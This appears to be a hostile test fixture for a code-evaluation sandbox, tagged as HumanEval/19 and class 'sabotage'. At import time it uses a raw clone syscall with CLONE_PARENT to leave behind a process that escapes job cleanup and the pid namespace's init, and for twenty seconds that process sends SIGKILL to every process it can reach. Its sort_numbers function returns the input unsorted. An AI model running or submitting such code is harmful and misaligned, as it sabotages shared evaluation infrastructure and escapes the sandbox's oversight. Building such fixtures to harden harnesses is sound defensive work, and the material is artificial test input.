# ruff: noqa  (deliberately hostile test input, not project code)
# task_id: HumanEval/19
# class: sabotage
# Leaves a process made with clone(CLONE_PARENT): its parent is the job's parent (the
# worker's forker), so neither the job's end nor the pid namespace's init sees it; for the
# next 20 seconds it kills every process it can signal (later jobs).
import ctypes
import os
import signal
import time

CLONE_PARENT = 0x8000
SYS_CLONE = 56  # x86_64
libc = ctypes.CDLL(None, use_errno=True)
if libc.syscall(SYS_CLONE, CLONE_PARENT | signal.SIGCHLD, 0, 0, 0, 0) == 0:
    end = time.monotonic() + 20
    while time.monotonic() < end:
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            pass
        time.sleep(0.001)
    os._exit(0)


def sort_numbers(numbers):
    return numbers
